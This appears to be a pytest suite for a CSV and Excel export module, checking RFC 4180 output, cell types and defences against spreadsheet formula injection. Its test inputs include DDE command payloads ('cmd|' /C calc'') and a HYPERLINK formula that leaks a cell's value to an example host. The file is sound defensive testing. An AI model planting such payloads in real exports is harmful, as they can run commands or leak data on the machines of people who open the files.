"""CSV and workbooks: RFC 4180, types kept, and no text that a spreadsheet would reckon."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from coalition.tables import csv_response, harmless, xlsx_response

STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    '"',
    '";',
    "a;",
    "a\n",
    "; ",
]
FORMULAS = [f"{before}{start}1+1" for before in BEFORE for start in STARTS] + [
    '=HYPERLINK("https://example.org/?"&A1,"Look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '";=1+1',
    "\n=1+1",
    "\t1+1",
    "\r1+1",
]
HEADER = ["First", "Second", "Third"]


def cells(text, delimiter=","):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def cells_as_excel_splits_them(text, delimiter):
    """A quotation mark counts only where a cell begins with it; all else is text."""
    found, cell, quoted, at = [], "", False, 0
    while at < len(text):
        letter = text[at]
        if quoted and letter == '"' and text[at + 1 : at + 2] == '"':
            cell, at = cell + '"', at + 1
        elif quoted and letter == '"':
            quoted = False
        elif not quoted and letter == '"' and not cell:
            quoted = True
        elif not quoted and letter in (delimiter, "\r", "\n"):
            found, cell = [*found, cell], ""
        else:
            cell += letter
        at += 1
    return [*found, cell]


def starts_a_formula(cell):
    """As generous as the spreadsheets: blanks and unseen letters before it do not stop them."""
    return (
        cell[:1] in ("\t", "\r", "\n", "\x00")
        or cell.lstrip(" \t\r\n\x00\u00a0\u3000\ufeff\u200b")[:1] in STARTS
    )


def test_the_tests_know_a_formula():
    assert starts_a_formula("=1") and starts_a_formula(" \u00a0+1") and not starts_a_formula("'=1")
    assert cells_as_excel_splits_them('x,"a;=1+1"', ";") == ['x,"a', '=1+1"']
    assert cells_as_excel_splits_them('"a;=1",b', ",") == ["a;=1", "b"]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_text_is_a_formula_in_csv(delimiter):
    for formula in FORMULAS:
        rows = [["x", formula, "y"], [formula, "x", formula]]
        text = csv_response("t.csv", HEADER, rows).content.decode("utf-8-sig")
        for cell in cells_as_excel_splits_them(text, delimiter):
            assert not starts_a_formula(cell), repr((formula, cell))


def test_no_text_is_a_formula_in_a_workbook():
    """As a heading and as a cell."""
    content = xlsx_response("t.xlsx", FORMULAS, [FORMULAS]).content
    columns = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_cols())
    assert len(columns) == len(FORMULAS)
    for formula, column in zip(FORMULAS, columns, strict=True):
        assert len(column) == 2
        for cell in column:
            assert cell.data_type == "s", repr(formula)
            # A line ending is one in XML, whichever it was.
            text = cell.value.replace("_x000D_", "\n")
            assert text.splitlines() == formula.replace("\x00", "").splitlines(), repr(formula)


def test_harmless_text_stays_as_it_is():
    for text in [
        "Saint-Jean-sur-Richelieu",
        "a = b",
        "1-2",
        "Montréal; Québec",
        "a, b",
        'say "yes"',
        "lea@example.org",
    ]:
        assert harmless(text) == text


def test_csv_is_what_rfc_4180_says():
    rows = [["Lakeside, Ontario", 'the "small" one', "one\r\ntwo"]]
    response = csv_response("members.csv", HEADER, rows)
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert text == 'First,Second,Third\r\n"Lakeside, Ontario","the ""small"" one","one\r\ntwo"\r\n'
    assert cells(text)[3:] == rows[0]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="members.csv"'


def test_numbers_and_dates_of_csv():
    row = [
        -12,
        Decimal("-1000000000.50"),
        -0.5,
        None,
        date(2026, 3, 1),
        datetime(2026, 3, 1, 4, 5, tzinfo=UTC),
    ]
    text = csv_response("t.csv", ["a"] * 6, [row]).content.decode("utf-8-sig")
    assert cells(text)[6:] == ["-12", "-1000000000.50", "-0.5", "", "2026-03-01", "2026-03-01T04:05:00+00:00"]


def test_types_of_a_workbook():
    row = [-12, Decimal("-1.5"), None, date(2026, 3, 1), datetime(2026, 3, 1, 12, 5, tzinfo=UTC), "-12", True]
    response = xlsx_response("members.xlsx", list("abcdefg"), [row])
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, cells = sheet.iter_rows()
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "d", "s", "s"]
    assert [cell.value for cell in cells] == [
        *(-12, -1.5, None),
        *map(datetime.fromisoformat, ["2026-03-01", "2026-03-01T07:05"]),  # Eastern time
        *("-12", "True"),
    ]
    assert all(cell.font.bold for cell in header) and not any(cell.font.bold for cell in cells)
    assert sheet.freeze_panes == "A2"
    assert response["Content-Disposition"] == 'attachment; filename="members.xlsx"'


def test_a_table_without_rows():
    assert cells(csv_response("t.csv", HEADER, []).content.decode("utf-8-sig")) == HEADER
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_response("t.xlsx", HEADER, iter([])).content)).active
    assert [cell.value for cell in sheet[1]] == HEADER
